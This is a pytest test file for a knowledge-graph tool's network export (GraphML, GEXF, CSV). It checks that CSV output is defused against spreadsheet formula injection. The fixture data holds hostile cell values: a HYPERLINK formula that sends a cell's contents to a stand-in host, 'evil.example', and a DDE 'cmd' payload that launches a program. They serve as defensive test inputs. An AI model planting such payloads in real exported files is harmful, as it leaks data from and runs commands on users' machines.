"""kg export: GraphML, GEXF and CSV for Gephi and Cytoscape; CSV formula injection defused."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

import networkx as nx
import pytest
from rdflib import Graph

from kg import export_network
from kg.analysis.netexport import network_text, neutralise
from kg.core.errors import OutputError
from kg.pipeline.build import load_graph
from tests.conftest import run_kg, tree_snapshot

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FILES = {
    "sources.yaml": """
        sources:
          - {id: src, title: "@SUM(1+1) report", published: 2021-04-01}
        """,
    "entities.yaml": f"""
        entities:
          - id: alpha
            type: Country
            label: '{HOSTILE}'
            aliases: ["+1 land", "-2+3"]
          - {{id: beta, type: Country, label: Betaland}}
          - {{id: deal, type: Agreement, label: Deal}}
        """,
    "statements.yaml": """
        statements:
          - subject: deal
            predicate: party
            object: alpha
            qualifiers: {start: 2021-01, status: signed}
            sources: [{source: src, locator: "=cmd|' /C calc'!A0", credibility: 2}]
          - subject: deal
            predicate: party
            object: beta
            sources: [{source: src}]
          - subject: deal
            predicate: value
            value: {value: 7, currency: USD}
            sources: [{source: src}]
        """,
}


@pytest.fixture
def graph(write_data: Callable[..., Path]) -> Graph:
    return load_graph(write_data(**FILES)).graph


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_neutralise_prefixes_formula_starts(cell: str) -> None:
    assert neutralise(cell) == "'" + cell


def test_neutralise_leaves_plain_text() -> None:
    assert neutralise("Japan") == "Japan"
    assert neutralise("a=b") == "a=b"


def test_csv_cells_are_neutralised(graph: Graph, tmp_path: Path) -> None:
    written = export_network(graph, "csv", tmp_path / "net")
    assert written == [tmp_path / "net" / "edges.csv", tmp_path / "net" / "nodes.csv"]
    with open(tmp_path / "net" / "nodes.csv", newline="", encoding="utf-8") as f:
        nodes = {row["Id"]: row for row in csv.DictReader(f)}
    assert nodes["alpha"]["Label"] == "'" + HOSTILE
    assert nodes["alpha"]["aliases"] == "'+1 land; -2+3"
    assert nodes["alpha"]["class"] == "Country"
    assert nodes["deal"]["value:value"] == "7"
    with open(tmp_path / "net" / "edges.csv", newline="", encoding="utf-8") as f:
        edges = list(csv.DictReader(f))
    first = next(e for e in edges if e["Target"] == "alpha")
    assert first["Id"] == "https://w3id.org/kg/statement/deal.party.alpha"
    assert (first["Source"], first["Type"], first["Label"]) == ("deal", "Directed", "party")
    assert (first["start"], first["status"], first["sources"]) == ("2021-01", "signed", "src")
    assert first["citations"] == "src [=cmd|' /C calc'!A0, credibility 2]"
    every_cell = [c for row in [*nodes.values(), *edges] for c in row.values()]
    assert not [c for c in every_cell if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_graphml_reads_back_with_labels_classes_and_evidence(graph: Graph,
                                                             tmp_path: Path) -> None:
    export_network(graph, "graphml", tmp_path / "net.graphml")
    g = nx.read_graphml(tmp_path / "net.graphml", force_multigraph=True)
    assert g.nodes["beta"] == {"label": "Betaland", "class": "Country", "aliases": "",
                               "iri": "https://w3id.org/kg/resource/beta"}
    edge = g.edges["deal", "alpha", "https://w3id.org/kg/statement/deal.party.alpha"]
    assert (edge["predicate"], edge["status"], edge["sources"]) == ("party", "signed", "src")


def test_gexf_reads_back_and_is_reproducible(graph: Graph, tmp_path: Path) -> None:
    export_network(graph, "gexf", tmp_path / "net.gexf")
    g = nx.read_gexf(tmp_path / "net.gexf")
    assert g.nodes["beta"]["label"] == "Betaland"
    assert g.nodes["beta"]["class"] == "Country"
    (edge,) = [d for _, w, d in g.edges(data=True) if w == "alpha"]
    assert edge["start_date"] == "2021-01"  # not a GEXF time spell
    assert network_text(graph, "gexf") == {"": (tmp_path / "net.gexf").read_text("utf-8")}


def test_csv_into_a_file_fails_and_writes_nothing(graph: Graph, tmp_path: Path) -> None:
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "net").write_text("keep", encoding="utf-8")
    before = tree_snapshot(tmp_path / "out")
    with pytest.raises(OutputError, match="needs a folder"):
        export_network(graph, "csv", tmp_path / "out" / "net")
    assert tree_snapshot(tmp_path / "out") == before


def test_cli_export(write_data: Callable[..., Path], tmp_path: Path) -> None:
    data = write_data(**FILES)
    r = run_kg("export", "--format", "graphml", "--out", "net.graphml", "--data", str(data),
               cwd=tmp_path)
    assert r.returncode == 0, r.stderr
    assert r.stdout == "wrote net.graphml\n"
    assert nx.read_graphml(tmp_path / "net.graphml").nodes["deal"]["class"] == "Agreement"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
